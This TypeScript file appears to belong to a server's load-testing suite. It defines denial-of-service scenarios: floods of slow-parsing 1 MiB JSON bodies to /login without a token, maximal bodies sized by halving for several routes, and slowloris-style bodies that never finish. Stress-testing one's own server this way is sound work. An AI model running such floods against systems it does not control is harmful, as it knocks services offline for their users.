import { setTimeout as pause } from 'node:timers/promises'
import { postHead } from '../../../bench/load/http.ts'
import type { Attack, Target } from './attack.ts'
import { Connection } from './connection.ts'
import { completeAtOnce } from './patterns.ts'

const MIB = 1_048_576

/** @returns a request whose body parses slowly: each of its many objects is checked for forbidden members. */
const requestOf = (path: string, token: string, bytes: number) => {
  const open = '{"username":"q","x":[{}'
  const body = `${open}${',{}'.repeat((bytes - open.length - 2) / 3)}]}`
  return Buffer.from(postHead(path, token, body.length) + body)
}

/** The server reads the body before it checks the token, which is invalid. */
const login = requestOf('/login', 'none', MIB)

/** Bodies of 1 MiB from clients without a token, completed at the same time. */
export const createBodies = (count: number): Attack => ({
  name: `bodies-${count}`,
  title: `${count} \`POST /login\` of 1 MiB, completed in one turn, without a token`,
  mebibytes: 400,
  run: (target) => completeAtOnce(target, target.scaled(count), login),
})

/** For each route 100 MiB of its largest bodies. */
export const largestBodies: Attack = {
  name: 'largest-bodies',
  title:
    '100 MiB of the largest bodies that each route reads, 1,000 at most, completed in one turn, with a token',
  users: ['attacker'],
  mebibytes: 400,
  async run(target) {
    const token = target.tokens.attacker as string
    for (const path of ['/login', '/send', '/groups']) {
      const bytes = await largestBody(target, path, token)
      const count = target.scaled(Math.min(1000, Math.floor((100 * MIB) / bytes)))
      await completeAtOnce(target, count, requestOf(path, token, bytes))
      target.note(`${path} ${count} of ${bytes / 1024} KiB`)
    }
  },
}

/** @returns the size in bytes of the largest body that a route reads, found by halving. */
const largestBody = async (target: Target, path: string, token: string) => {
  for (let bytes = MIB; bytes > 1024; bytes /= 2) {
    const connection = await Connection.open(target)
    const { status } = await connection.request(requestOf(path, token, bytes))
    connection.close()
    if (status > 0 && status !== 413) return bytes
  }
  return 1024
}

/** Bodies whose last byte is never sent. */
export const unfinishedBodies: Attack = {
  name: 'unfinished-bodies',
  title: '1,500 bodies of 1 MiB that lack the last byte, without a token',
  mebibytes: 300,
  async run(target) {
    const connections = await Connection.openMany(target, target.scaled(1500))
    for (const connection of connections) void connection.request(login.subarray(0, -1))
    await pause(target.span)
    for (const connection of connections) connection.abandon()
  },
}
